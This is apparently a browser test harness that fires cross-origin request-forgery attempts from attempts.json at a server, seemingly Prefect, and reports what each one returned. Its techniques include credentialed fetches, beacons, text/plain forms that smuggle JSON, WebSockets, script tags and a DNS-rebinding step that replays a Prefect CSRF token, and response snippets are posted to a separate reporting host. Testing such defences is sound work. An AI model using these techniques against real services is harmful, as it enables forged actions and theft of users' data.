// Makes each attempt of attempts.json and reports what the page saw of it: a status that it could read, or an error.
"use strict";

// null as a string: what a sandboxed frame and a file are to a server.
const here = new URL(document.currentScript.src);
const from = new URLSearchParams(here.search).get("as") || "page";
const home = new URLSearchParams(here.search).get("home") || here.origin;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const within = (ms, work) => Promise.race([work, pause(ms).then(() => ({ error: "no answer" }))]);
const report = (what) => fetch(`${home}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(what) });

const seen = async (response) => ({ type: response.type, status: response.status, text: (await response.text()).slice(0, 200) });
const json = { "Content-Type": "application/json" };
const text = { "Content-Type": "text/plain" };

function xhr(attempt, headers) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(attempt.method, attempt.url);
    for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value);
    request.onload = () => resolve({ type: "xhr", status: request.status, text: request.responseText.slice(0, 200) });
    request.onerror = () => resolve({ error: "XHR refused" });
    request.send(attempt.body);
  });
}

async function form(attempt, enctype) {
  const frame = Object.assign(document.createElement("iframe"), { name: `frame-${attempt.name}` });
  const sender = Object.assign(document.createElement("form"), { action: attempt.url, method: "post", enctype, target: frame.name });
  // The body parts around its first equals sign: a form puts one between name and value, and JSON takes it in a string.
  const [name, ...value] = attempt.body.split("=");
  sender.append(Object.assign(document.createElement("input"), { name, value: value.join("=") }));
  document.body.append(frame, sender);
  sender.submit();
  await pause(800);
  return { type: "form", status: 0 };
}

function socket(attempt) {
  return new Promise((resolve) => {
    const opened = new WebSocket(attempt.url, attempt.protocols);
    const heard = [];
    opened.onopen = async () => {
      for (const message of attempt.messages) opened.send(message);
      await pause(1500);
      const open = opened.readyState === WebSocket.OPEN;
      resolve(open ? { type: "socket", status: 200, text: heard.join() || "open, silent" } : { error: "closed" });
      opened.close();
    };
    opened.onmessage = (event) => heard.push(String(event.data).slice(0, 100));
    opened.onerror = () => resolve({ error: "socket refused" });
  });
}

async function rebound(attempt) {
  const known = await fetch("/api/csrf-token?client=hostile");
  const token = known.ok ? (await known.json()).token : "none";
  const headers = { ...json, "Prefect-Csrf-Token": token, "Prefect-Csrf-Client": "hostile" };
  return seen(await fetch(new URL(attempt.url).pathname, { method: attempt.method, headers, body: attempt.body }));
}

function tag(attempt, name) {
  return new Promise((resolve) => {
    const element = Object.assign(document.createElement(name), { src: attempt.url });
    element.onload = () => resolve({ type: name, status: 0, text: "loaded" });
    element.onerror = () => resolve({ error: `${name} refused` });
    document.body.append(element);
  });
}

const send = async (attempt, options) => seen(await fetch(attempt.url, { method: attempt.method, body: attempt.body, ...options }));
const techniques = {
  "cors json": (a) => send(a, { headers: json }),
  "cors json with credentials": (a) => send(a, { headers: json, credentials: "include" }),
  "cors text": (a) => send(a, { headers: text, credentials: "include" }),
  "no-cors text": (a) => send(a, { headers: text, mode: "no-cors", credentials: "include" }),
  "no-cors untyped": (a) => send(a, { body: new Blob([a.body]), mode: "no-cors", credentials: "include" }),
  "beacon text": async (a) => ({ type: "beacon", status: 0, text: String(navigator.sendBeacon(a.url, a.body)) }),
  "beacon untyped": async (a) => ({ type: "beacon", status: 0, text: String(navigator.sendBeacon(a.url, new Blob([a.body]))) }),
  "xhr json": (a) => xhr(a, json),
  "xhr text": (a) => xhr(a, text),
  "form text/plain": (a) => form(a, "text/plain"),
  "form urlencoded": (a) => form(a, "application/x-www-form-urlencoded"),
  "form multipart": (a) => form(a, "multipart/form-data"),
  "websocket": socket,
  "rebound name": rebound,
  "image": (a) => tag(a, "img"),
  "script": (a) => tag(a, "script"),
};

async function attack() {
  const attempts = await (await fetch(`${home}/attempts.json`)).json();
  for (const attempt of attempts.filter((one) => one.from === from)) {
    const saw = await within(20000, techniques[attempt.technique](attempt).catch((error) => ({ error: String(error) })));
    await report({ name: attempt.name, ...saw });
  }
  await report({ done: from });
}
attack();
